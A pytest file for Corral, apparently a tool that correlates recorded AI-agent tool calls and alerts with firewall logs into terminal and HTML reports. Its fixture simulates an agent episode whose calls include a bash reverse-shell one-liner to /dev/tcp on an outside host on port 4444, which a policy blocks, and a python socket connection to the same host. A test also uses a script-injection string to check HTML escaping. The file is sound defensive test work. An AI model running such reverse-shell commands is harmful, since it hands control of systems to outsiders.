"""Reports an analyst can act on: outcomes and output of the calls, rule titles, per-episode drill-down,
the same counts in the terminal and the HTML, the same severities from a trace file and the store.

The run is recorded in a real event store the way the harness records it (a
``tool_call`` event per call, ``alert`` events for Corral's detections), and
its trace file is written from that store, as ``corral demo`` does.
"""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

import pytest
from rich.console import Console

from chromium_support import CHROMIUM, FLAGS
from corral.correlate import CorrelationReport, correlate
from corral.events import (
    Alert,
    Event,
    EventStore,
    Level,
    ToolCall,
    TraceContext,
    trace_records,
    write_trace_jsonl,
)
from corral.report import print_correlation_summary, render_correlation_html

T0 = 1795200000.0
NODE, SB, BAD = "192.0.2.10", "192.0.2.101", "203.0.113.66"
TITLE = "Reverse shell to an outside host"
RULE_ID = "corral-net-revshell-0042"


def _record_run(store: EventStore) -> None:
    calls = [
        (0, "ls -la", False, 0, "total 0\n"),
        (1, f"bash -c 'sh -i >& /dev/tcp/{BAD}/4444 0>&1'", True, None, ""),
        (2, f"python3 -c 'import socket; socket.create_connection((\"{BAD}\", 4444))'", False, 1, ""),
        (3, "pytest -q", False, 0, "3 passed\n"),
    ]
    # tool_call events carry the call's captured output once the events model has the fields.
    has_output = "stdout" in ToolCall.model_fields
    for turn, cmd, blocked, code, out in calls:
        start, end = T0 + turn * 20, T0 + turn * 20 + 8
        ctx = TraceContext(run_id="r1", step=4, episode_id="e7", turn=turn, tool_call_id=f"e7-t{turn}")
        store.append(
            Event(
                time_ns=int(end * 1e9),
                host=NODE,
                sandbox_id="sb-e7",
                ctx=ctx,
                data=ToolCall(
                    command=cmd,
                    start_ns=int(start * 1e9),
                    end_ns=int(end * 1e9),
                    exit_code=code,
                    blocked=blocked,
                    stop_reason="policy" if blocked else None,
                    sandbox_ip=SB,
                    host_ip=NODE,
                    **({"stdout": out} if has_output else {}),
                ),
            )
        )
        if turn in (1, 2):
            store.append(
                Event(
                    time_ns=int(start * 1e9),
                    host=NODE,
                    sandbox_id="sb-e7",
                    ctx=ctx,
                    data=Alert(rule_id=RULE_ID, title=TITLE, level=Level.critical, category="c2"),
                )
            )
    store.flush()


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    d = tmp_path_factory.mktemp("run")
    with EventStore(d / "events.db") as store:
        _record_run(store)
        with (d / "trace.jsonl").open("w") as f:
            write_trace_jsonl(trace_records(store), f)
    log = d / "fw.log"
    log.write_text(
        f"2 123456789012 eni-1 {SB} {BAD} 40100 4444 6 3 180 {int(T0 + 41)} {int(T0 + 43)} REJECT OK\n"
        f"2 123456789012 eni-1 {SB} {BAD} 40101 4444 6 3 180 {int(T0 + 44)} {int(T0 + 46)} REJECT OK\n"
    )
    return d / "events.db", d / "trace.jsonl", log


def _reports(run: tuple[Path, Path, Path]) -> tuple[CorrelationReport, CorrelationReport]:
    store, trace, log = run
    return correlate([store], [log]).report(), correlate([trace], [log]).report()


def test_severity_is_the_same_from_the_store_and_from_the_trace(run: tuple[Path, Path, Path]) -> None:
    from_store, from_trace = _reports(run)
    [a], [b] = from_store.incidents, from_trace.incidents
    assert (a.severity, b.severity) == ("medium", "medium")  # two denied flows; the trace has no alerts
    assert (a.alert_level, b.alert_level) == ("critical", None)  # Corral's own, shown beside it
    assert from_store.summary and from_store.summary.call_sources == ["event store"]
    assert from_trace.summary and from_trace.summary.call_sources == ["trace file"]
    assert "event store" in render_correlation_html(from_store)
    assert "holds no Corral alerts" in render_correlation_html(from_trace)


def test_incident_says_blocked_or_ran_and_shows_output_and_rule_titles(run: tuple[Path, Path, Path]) -> None:
    rep, _ = _reports(run)
    [inc] = rep.incidents
    # The flows' call ran; the episode's other alerted call was blocked before it ran.
    assert inc.tool_call_ids == ["e7-t1", "e7-t2"] and (inc.calls_blocked, inc.calls_ran) == (1, 1)
    assert rep.calls["e7-t1"].status == "blocked" and rep.calls["e7-t0"].status == "ran"
    assert [a.title for a in rep.calls["e7-t2"].alerts] == [TITLE]
    html = render_correlation_html(rep)
    assert "1 blocked, 1 ran" in html and "<b>blocked</b>" in html
    assert TITLE in html and f'title="{RULE_ID}"' in html
    assert f">{RULE_ID}<" not in html  # the id is a tooltip, the title is what is shown
    if "stdout" in ToolCall.model_fields:  # tool_call events that carry the call's captured output
        assert rep.calls["e7-t0"].stdout == "total 0\n" and "3 passed" in html


def test_captured_output_is_shown(run: tuple[Path, Path, Path], tmp_path: Path) -> None:
    _, trace, log = run
    outputs = {"e7-t0": "total 0\n", "e7-t3": "3 passed\n<script>alert(1)</script>"}
    lines = []
    for text in trace.read_text().splitlines():
        rec = json.loads(text)
        rec.update(
            stdout=outputs.get(rec["tool_call_id"], ""), stderr="warning: x" if rec["turn"] == 2 else ""
        )
        lines.append(json.dumps(rec))
    with_output = tmp_path / "trace.jsonl"
    with_output.write_text("\n".join(lines) + "\n")
    rep = correlate([with_output], [log]).report()
    assert rep.calls["e7-t3"].stdout == outputs["e7-t3"] and rep.calls["e7-t2"].stderr == "warning: x"
    html = render_correlation_html(rep)
    assert "3 passed\n&lt;script&gt;" in html and "<script>alert(1)" not in html and "warning: x" in html


def test_episode_drill_down_lists_every_call_in_order(run: tuple[Path, Path, Path]) -> None:
    rep, _ = _reports(run)
    [ep] = rep.episodes
    assert ep.call_ids == ["e7-t0", "e7-t1", "e7-t2", "e7-t3"] and ep.incident_ids == [rep.incidents[0].id]
    html = render_correlation_html(rep)
    assert f'<details id="{ep.id}"' in html or f'<details open id="{ep.id}"' in html
    assert f'href="#{ep.id}"' in html
    section = html[html.index(f'id="{ep.id}"') :]
    positions = [section.index(f"e7-t{t}</code>") for t in range(4)]
    assert positions == sorted(positions)


def test_terminal_and_html_counts_agree(run: tuple[Path, Path, Path]) -> None:
    rep, _ = _reports(run)
    con = Console(record=True, width=200)
    print_correlation_summary(rep, con)
    text = con.export_text()
    html = render_correlation_html(rep)
    cards = dict(
        (k, v)
        for v, k in re.findall(
            r'<div class="card"><div class="v">([^<]*)</div><div class="k">([^<]*)</div>', html
        )
    )
    assert len(cards) >= 10
    for label, value in cards.items():
        assert f"{label} {value}" in text, label


def test_trusted_grader_runs_are_counted_apart(tmp_path: Path, run: tuple[Path, Path, Path]) -> None:
    _, trace, log = run
    grader = tmp_path / "trace.jsonl"
    line = (
        '{"run_id": "r1", "step": 4, "episode_id": "e7", "turn": 4, "tool_call_id": "e7-grade", '
        f'"sandbox_id": "sb-e7", "host": "{NODE}", "sandbox_ip": "{SB}", "start": {T0 + 100}, '
        f'"end": {T0 + 104}, "command": "python3 - <<EOF", "trusted": true, "blocked": false, '
        '"exit_code": 0}\n'
    )
    grader.write_text(trace.read_text() + line)
    rep = correlate([grader], [log]).report()
    assert rep.summary and (rep.summary.agent_calls, rep.summary.trusted_calls) == (4, 1)
    [ep] = rep.episodes
    assert ep.trusted_call_ids == ["e7-grade"] and "e7-grade" not in ep.call_ids
    html = render_correlation_html(rep)
    assert "Trusted runs" in html and ">trusted grader runs<" in html


def test_drill_down_renders_in_chromium_and_a_link_opens_the_episode(
    run: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    assert CHROMIUM
    rep, _ = _reports(run)
    out = tmp_path / "report.html"
    out.write_text(render_correlation_html(rep), encoding="utf-8")
    ep = rep.episodes[0].id
    p = subprocess.run(
        [CHROMIUM, *FLAGS, f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", out.as_uri() + f"#{ep}"],
        capture_output=True,
        text=True,
        timeout=90,
        check=False,
    )
    assert p.returncode == 0, p.stderr[-2000:]
    assert [ln for ln in p.stderr.splitlines() if ":CONSOLE" in ln] == []
    assert 'data-ready="1"' in p.stdout
    # Opened by the page's script from the link's fragment.
    assert re.search(rf'<details[^>]*open[^>]*id="{ep}"|<details[^>]*id="{ep}"[^>]*open', p.stdout)
    assert "e7-t3" in p.stdout and "pytest -q" in p.stdout
